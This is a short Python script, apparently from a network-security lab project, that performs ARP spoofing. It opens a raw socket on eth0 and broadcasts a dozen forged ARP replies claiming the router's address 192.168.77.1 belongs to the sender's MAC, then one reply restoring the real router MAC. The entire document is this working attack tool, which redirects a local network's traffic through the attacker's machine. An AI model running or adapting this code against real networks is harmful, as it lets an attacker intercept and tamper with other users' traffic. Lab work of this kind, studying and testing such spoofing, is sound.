# SPDX-License-Identifier: GPL-3.0-or-later
"""Says to everyone that it is the router, a dozen times, then that it is not.

Usage: spoofer.py OWN-MAC ROUTER-MAC. Broadcast, as arpspoof sends it without a
victim; who speaks to one victim alone is in tests/lab/test_spoofers.py.
"""

import socket
import struct
import sys
import time

ROUTER = socket.inet_aton("192.168.77.1")
EVERYONE = b"\xff" * 6


def claim(sock, source, sender):
    arp = struct.pack(">HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, sender, ROUTER,
                      EVERYONE, ROUTER)
    sock.send(EVERYONE + source + b"\x08\x06" + arp)


def main():
    own, router = (bytes.fromhex(mac.replace(":", ""))
                   for mac in sys.argv[1:3])
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind(("eth0", 0x0806))
    for _ in range(12):
        claim(sock, own, own)
        time.sleep(0.5)
    claim(sock, own, router)


main()
